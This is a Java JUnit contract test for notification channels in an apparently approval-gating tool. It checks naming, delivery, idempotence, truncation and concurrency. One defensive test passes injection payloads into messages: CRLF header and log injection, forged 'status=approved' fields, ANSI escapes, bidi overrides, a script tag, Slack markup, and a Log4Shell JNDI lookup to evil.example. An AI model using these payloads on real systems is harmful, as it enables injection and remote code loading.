package io.holdpoint.notifiers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import io.holdpoint.model.RequestId;
import io.holdpoint.model.notice.Delivery;
import io.holdpoint.model.notice.NotificationChannel;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What every channel must hold. A channel's test extends this, hands over the channel wired to
 * something that the test can look into, and adds what is its own.
 */
public abstract class NotificationChannelContract {

  private static final RequestId REQUEST = Deliveries.REQUEST;

  /** The channel under test; always the same one within a test. */
  protected abstract NotificationChannel channel();

  /** An address at which this channel can tell. */
  protected abstract String address();

  /** What people were told so far, as they receive it, oldest first. */
  protected abstract List<String> told();

  /** Whether a message lets hostile text act instead of being shown; channels differ in how. */
  protected abstract boolean isContained(String message);

  @Test
  void hasAShortStableName() {
    assertThat(channel().name()).matches("[a-z-]{1,64}").isEqualTo(channel().name());
  }

  @ParameterizedTest
  @EnumSource(Delivery.Kind.class)
  void tellsEveryKind(Delivery.Kind kind) {
    channel().deliver(delivery(kind, "crm.customers.delete"));
    if (kind == Delivery.Kind.UPDATE && told().isEmpty()) {
      return; // has shown nothing that it could change
    }
    assertThat(told()).hasSize(1);
    assertThat(told().get(0)).contains(REQUEST.toString()).contains(Deliveries.link(REQUEST));
  }

  @Test
  void tellingTwiceDoesNoHarm() {
    Delivery delivery = delivery(Delivery.Kind.HELD, "crm.customers.delete");
    channel().deliver(delivery);
    assertThatCode(() -> channel().deliver(delivery)).doesNotThrowAnyException();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a\nnotice=verdict status=approved",
        "a\r\nSet-Cookie: x",
        "a\u2028b\u2029c\u0085d",
        "\u202Eevil\u202C",
        "\u001B[2J\u001B]0;x\u0007",
        "\" status=approved why=\"",
        "<script>alert(1)</script>",
        "*bold* <!channel> <https://evil.example|approve>",
        "${jndi:ldap://evil.example/a} %s {}",
        "\uD800"
      })
  void hostileTextIsShownAndDoesNothing(String hostile) {
    channel().deliver(delivery(Delivery.Kind.HELD, hostile));
    assertThat(told()).isNotEmpty().allMatch(this::isContained);
  }

  @Test
  void endlessTextIsCut() {
    channel().deliver(delivery(Delivery.Kind.HELD, "x".repeat(200_000)));
    assertThat(told().get(0).length()).isLessThan(10_000);
  }

  @Test
  void tellsFromManyThreadsAtOnce() {
    IntStream.range(0, 50)
        .parallel()
        .forEach(i -> channel().deliver(delivery(Delivery.Kind.REMINDER, "tool-" + i)));
    assertThat(told()).hasSize(50);
  }

  protected Delivery delivery(Delivery.Kind kind, String text) {
    return Deliveries.of(kind, address(), text);
  }
}
